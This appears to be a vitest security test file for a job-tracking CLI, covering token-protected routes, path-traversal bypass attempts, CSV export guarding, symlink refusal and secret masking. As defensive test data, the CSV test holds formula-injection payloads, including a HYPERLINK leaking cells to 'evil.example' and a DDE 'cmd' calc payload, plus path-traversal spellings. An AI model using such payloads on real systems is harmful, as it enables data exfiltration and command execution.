import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import {request} from 'node:http'
import {join} from 'node:path'
import Papa from 'papaparse'
import {afterEach, describe, expect, it} from 'vitest'
import {tempDir} from '../helpers/cli.js'
import {runCommandLine} from '../helpers/run-command.js'
import {serveBuilt} from '../helpers/serve.js'
import {application, seedTracker} from '../helpers/tracker.js'
import {closedPort, type Receiver, startReceiver} from '../notifiers/receiver.js'

const cleanups: (() => Promise<void> | void)[] = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

function home(): string {
  const dir = tempDir('jobagent-security-')
  cleanups.push(dir.cleanup)
  return dir.path
}

/** The built `jobagent serve`, killed after the test. */
async function serve(dir: string, env: Record<string, string> = {}) {
  const server = await serveBuilt(dir, env)
  cleanups.push(server.stop)
  return server
}

/** A request sent byte for byte as written (fetch would normalise `..` and `//` in the path first). */
function rawGet(
  base: string,
  path: string,
  headers: Record<string, string> = {},
): Promise<{status: number; body: string}> {
  const {hostname, port} = new URL(base)
  return new Promise((resolve, reject) => {
    const outgoing = request({host: hostname, port, path, method: 'GET', headers}, (response) => {
      let body = ''
      response.setEncoding('utf8')
      response.on('data', (chunk) => {
        body += chunk
      })
      response.on('end', () => resolve({status: response.statusCode ?? 0, body}))
    })
    outgoing.on('error', reject)
    outgoing.end()
  })
}

describe('jobagent serve on an address other machines can reach', () => {
  it.each([
    ['the IPv6 wildcard from --host', ['--host', '::'], {}, {}],
    ['0.0.0.0 from the config file', [], {server: {host: '0.0.0.0', port: 0}}, {}],
    ['0.0.0.0 with an empty JOBAGENT_API_TOKEN', ['--host', '0.0.0.0'], {}, {JOBAGENT_API_TOKEN: ''}],
  ])('refuses %s without a token, with exit 2 and the reason', async (_case, args, config, env) => {
    const dir = home()
    writeFileSync(join(dir, 'config.json'), JSON.stringify(config), {mode: 0o600})
    const result = await runCommandLine(['serve', '--port', '0', ...args], {home: dir, env})
    expect(result.code, result.stderr).toBe(2)
    expect(result.stderr).toMatch(/refusing to listen on (::|0\.0\.0\.0) without an API token/)
    expect(result.stderr).toContain('JOBAGENT_API_TOKEN')
    expect(result.stderr).not.toContain('Listening on')
  })
})

describe('jobagent serve with JOBAGENT_API_TOKEN', () => {
  const token = 'reliability-token-8c1f0e9a7b6d5c4e'
  const wrongCredentials: [string, Record<string, string>][] = [
    ['no Authorization header', {}],
    ['a wrong token', {authorization: 'Bearer not-the-token'}],
    ['the token with one more character', {authorization: `Bearer ${token}x`}],
    ['the token as Basic credentials', {authorization: `Basic ${Buffer.from(`user:${token}`).toString('base64')}`}],
    ['the token without the Bearer scheme', {authorization: token}],
  ]

  it('answers 401 on every protected operation of its OpenAPI document without the right token', async () => {
    const dir = home()
    writeFileSync(join(dir, 'config.json'), JSON.stringify({sources: []}), {mode: 0o600})
    const {url} = await serve(dir, {JOBAGENT_API_TOKEN: token})
    // The document lists every route, so a route added later is checked without touching this test.
    const document = (await (await fetch(`${url}/openapi.json`)).json()) as {paths: Record<string, object>}
    const open = new Set(['GET /', 'GET /health', 'GET /health/live', 'GET /health/ready', 'GET /metrics'])
    const operations = Object.entries(document.paths).flatMap(([template, methods]) =>
      Object.keys(methods).map((method) => ({
        name: `${method.toUpperCase()} ${template}`,
        method: method.toUpperCase(),
        path: template
          .replace('{url}', encodeURIComponent('https://example.org/jobs/1'))
          .replace('{shipment_id}', 'SHP-1001'),
      })),
    )
    const protectedOperations = operations.filter((operation) => !open.has(operation.name))
    expect(protectedOperations.map((operation) => operation.name)).toEqual(
      expect.arrayContaining([
        'GET /applications',
        'POST /applications',
        'GET /applications/{url}/status',
        'PATCH /applications/{url}/status',
        'GET /applications/export.csv',
        'GET /jobs',
        'GET /shipments/{shipment_id}/unified',
      ]),
    )

    const answers: string[] = []
    for (const operation of protectedOperations) {
      for (const [credentials, headers] of wrongCredentials) {
        const body = operation.method === 'GET' ? undefined : JSON.stringify({status: 'offer', title: 'x'})
        const response = await fetch(`${url}${operation.path}`, {
          method: operation.method,
          headers: {...headers, 'content-type': 'application/json'},
          ...(body === undefined ? {} : {body}),
        })
        const text = await response.text()
        answers.push(`${operation.name} with ${credentials}: ${response.status} ${errorCode(text)}`)
      }
      // With the token the same request gets past the check, so the 401s above come from the token.
      const allowed = await fetch(`${url}${operation.path}`, {
        method: operation.method,
        headers: {authorization: `Bearer ${token}`},
      })
      await allowed.arrayBuffer()
      expect([operation.name, allowed.status]).not.toEqual([operation.name, 401])
    }
    expect(answers.filter((answer) => !answer.endsWith(': 401 unauthorized'))).toEqual([])

    for (const path of ['/health', '/metrics']) {
      const response = await fetch(`${url}${path}`)
      await response.arrayBuffer()
      expect([path, response.status]).toEqual([path, 200])
    }
  })

  it('lets no spelling of a protected path slip past the token check', async () => {
    const dir = home()
    writeFileSync(join(dir, 'config.json'), JSON.stringify({sources: []}), {mode: 0o600})
    await seedTracker(dir, [application({url: 'https://example.org/jobs/secret-1', notes: 'private notes'})])
    const {url} = await serve(dir, {JOBAGENT_API_TOKEN: token})
    const spellings = [
      '/applications/',
      '//applications',
      '/health/../applications',
      '/metrics/..%2fapplications',
      '/docs/../applications',
      '/docs/..%2Fapplications',
      '/%61pplications',
      '/APPLICATIONS',
      '/applications?x=/health',
      '/health?/applications',
      `/applications/${encodeURIComponent('https://example.org/jobs/secret-1')}/status/`,
    ]
    for (const path of spellings) {
      const {status, body} = await rawGet(url, path)
      expect(body, path).not.toContain('private notes')
      expect(body, path).not.toContain('secret-1')
      // /health?/applications is /health itself (the rest is a query string): open, and holds no data.
      if (path.startsWith('/health?')) expect(status, path).toBe(200)
      else expect([401, 404], `${path} answered ${status}`).toContain(status)
    }
  })
})

describe('jobagent export-csv --output', () => {
  it('guards every text column against each formula prefix: = + - @ tab and carriage return', async () => {
    const dir = home()
    const prefixes = ['=', '+', '-', '@', '\t', '\r']
    await seedTracker(
      dir,
      prefixes.map((prefix, n) =>
        application({
          url: `https://example.org/jobs/${n}`,
          title: `${prefix}HYPERLINK("http://evil.example/?leak="&A1)`,
          company: `${prefix}1+1`,
          location: `${prefix}cmd|' /C calc'!A0`,
          source: `${prefix}source`,
          // Notes take line breaks but no lone carriage return: a CRLF still starts the cell with one.
          notes: prefix === '\r' ? '\r\nnotes' : `${prefix}notes`,
        }),
      ),
    )
    const output = join(dir, 'applications.csv')
    const result = await runCommandLine(['export-csv', '--output', output], {home: dir})
    expect(result.code, result.stderr).toBe(0)
    // Read back as a spreadsheet would see the cells: RFC 4180, without the import's unguarding.
    const rows = Papa.parse<Record<string, string>>(readFileSync(output, 'utf8'), {header: true, skipEmptyLines: true})
    expect(rows.errors).toEqual([])
    expect(rows.data).toHaveLength(prefixes.length)
    const unguarded = rows.data.flatMap((row) =>
      ['title', 'company', 'location', 'source', 'notes']
        .map((column) => row[column] ?? '')
        .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    )
    expect(unguarded).toEqual([])
    // The other columns are trimmed when recorded (a leading tab or CR is gone); notes are kept as written.
    const notes = rows.data.sort((a, b) => String(a.url).localeCompare(String(b.url))).map((row) => row.notes)
    // The CRLF notes (a lone CR is refused on input) read back with the guard in front of their line break.
    expect(notes).toEqual(
      prefixes.map((prefix) => (prefix === '\r' ? expect.stringMatching(/^'\r?\nnotes$/) : `'${prefix}notes`)),
    )
  })

  it.each([
    ['an existing file', true],
    ['a file that does not exist yet', false],
  ])('refuses a symbolic link to %s and leaves the link and its target as they were', async (_case, targetExists) => {
    const dir = home()
    await seedTracker(dir, [application({notes: 'exported data'})])
    const targetDir = join(dir, 'elsewhere')
    const target = join(targetDir, 'precious.txt')
    mkdirSync(targetDir)
    if (targetExists) writeFileSync(target, 'not to be overwritten\n')
    const link = join(dir, 'applications.csv')
    symlinkSync(target, link)

    const result = await runCommandLine(['export-csv', '--output', link], {home: dir})

    expect(result.code).toBe(1)
    expect(result.stderr).toContain(`cannot write ${link}: it is a symbolic link; refusing to write through it`)
    expect(result.stderr).not.toContain('    at ')
    expect(lstatSync(link).isSymbolicLink()).toBe(true)
    expect(readlinkSync(link)).toBe(target)
    if (targetExists) expect(readFileSync(target, 'utf8')).toBe('not to be overwritten\n')
    else expect(existsSync(target)).toBe(false)
    expect(readdirSync(targetDir).filter((name) => name !== 'precious.txt')).toEqual([])
  })

  it('writes into a directory given as --output one new file of the default name, and nothing beside it', async () => {
    const dir = home()
    await seedTracker(dir, [application()])
    const target = join(dir, 'exports')
    mkdirSync(target)
    const before = readdirSync(dir).sort()

    const result = await runCommandLine(['export-csv', '--output', target], {home: dir})

    expect(result.code, result.stderr).toBe(0)
    expect(readdirSync(target)).toEqual([expect.stringMatching(/^applications-[\dT-]+\.csv$/)])
    expect(result.stdout.trim()).toBe(join(target, readdirSync(target)[0]!))
    expect(readdirSync(dir).sort()).toEqual(before)
  })
})

describe('secrets in the output', () => {
  const secrets = {
    discord: 'https://discord.com/api/webhooks/123456789/DISCORDwebhookTOKEN42',
    slack: 'https://hooks.slack.com/services/T0001/B0002/SLACKwebhookTOKEN42',
    // A webhook whose only secret is its one path segment (Make.com, Pipedream-style endpoints).
    oneSegment: 'jsons://hook.eu1.make.com/MAKEwebhookTOKEN0123456789abcdef',
    ntfy: 'ntfys://tk_NTFYaccessTOKEN42@ntfy.example.org/jobs',
    // On the public server the topic is the only secret: whoever knows it reads the messages.
    ntfyTopic: 'ntfy://my-job-alerts',
    smtp: 'mailto://me%40example.org:SMTPpassword42@smtp.example.org?to=me@example.org',
  }
  const words = [
    'DISCORDwebhookTOKEN42',
    'SLACKwebhookTOKEN42',
    'MAKEwebhookTOKEN0123456789abcdef',
    'NTFYaccessTOKEN42',
    'my-job-alerts',
    'ntfy-topic-secret',
    'SMTPpassword42',
    'PGpassword42',
  ]
  const leaked = (text: string) => words.filter((word) => text.includes(word))

  it('never shows a webhook token, ntfy token or SMTP password in config list, list --json or get', async () => {
    const dir = home()
    const set = (key: string, value: string) => runCommandLine(['config', 'set', key, value], {home: dir})
    expect((await set('notify.urls', JSON.stringify(Object.values(secrets)))).code).toBe(0)
    expect((await set('shipments.metadata.url', 'postgres://app:PGpassword42@db.example.org/shipments')).code).toBe(0)

    const outputs = await Promise.all(
      [
        ['config', 'list'],
        ['config', 'list', '--json'],
        ['config', 'get', 'notify'],
        ['config', 'get', 'shipments'],
      ].map((args) => runCommandLine(args, {home: dir})),
    )
    for (const output of outputs) expect(output.code, output.stderr).toBe(0)
    const text = outputs.map((output) => output.stdout + output.stderr).join('\n')
    expect(leaked(text)).toEqual([])
    // Masked, not dropped: the user still sees which channels are configured.
    expect(text).toContain('https://discord.com/api/***/***/***')
    expect(text).toContain('jsons://hook.eu1.make.com/***')
    expect(text).toContain('ntfys://***@ntfy.example.org/***')
    expect(text).toContain('ntfy://***')
    expect(text).toContain('mailto://me%40example.org:***@smtp.example.org?to=***')
  })

  it('never shows them in a verbose run log or its JSON summary, even when every channel fails', async () => {
    const dir = home()
    const jobs = join(dir, 'jobs.json')
    writeFileSync(
      jobs,
      JSON.stringify([{title: 'Dev', company: 'Acme', location: 'Remote', url: 'https://example.org/j/1'}]),
    )
    writeFileSync(join(dir, 'config.json'), JSON.stringify({sources: [{type: 'file', path: jobs}]}), {mode: 0o600})
    // Failing channels log the most: retries, causes (--verbose) and the final WARNING per channel.
    const refusing: Receiver = await startReceiver(() => ({status: 500, body: 'internal error'}))
    cleanups.push(() => refusing.close())
    const closed = `127.0.0.1:${await closedPort()}`
    const local = {
      discord: `discord+http://${refusing.origin.slice(7)}/api/webhooks/123456789/DISCORDwebhookTOKEN42`,
      slack: `slack+http://${closed}/services/T0001/B0002/SLACKwebhookTOKEN42`,
      oneSegment: `json://${refusing.origin.slice(7)}/MAKEwebhookTOKEN0123456789abcdef`,
      ntfy: `ntfy://tk_NTFYaccessTOKEN42@${closed}/ntfy-topic-secret`,
      smtp: `mailto://me%40example.org:SMTPpassword42@${closed}?to=me@example.org`,
    }
    const result = await runCommandLine(['run', '--verbose', '--json'], {
      home: dir,
      env: {JOBAGENT_NOTIFY_URLS: Object.values(local).join(',')},
    })
    expect(result.code, result.stderr).toBe(1)
    expect(result.stderr).toContain('every channel failed (5)')
    expect(refusing.requests.map((received) => received.url)).toContain('/MAKEwebhookTOKEN0123456789abcdef')
    expect(leaked(result.stdout + result.stderr)).toEqual([])
    const summary = JSON.parse(result.stdout) as {notifications: {channels: {channel: string}[]}}
    expect(summary.notifications.channels.map((channel) => channel.channel)).toEqual(
      expect.arrayContaining([
        `json://${refusing.origin.slice(7)}/***`,
        `ntfy://***@${closed}/***`,
        `mailto://me%40example.org:***@${closed}?to=***`,
      ]),
    )
  }, 60_000)
})

function errorCode(body: string): string {
  try {
    return (JSON.parse(body) as {error?: {code?: string}}).error?.code ?? 'no error code'
  } catch {
    return `not JSON: ${body.slice(0, 40)}`
  }
}
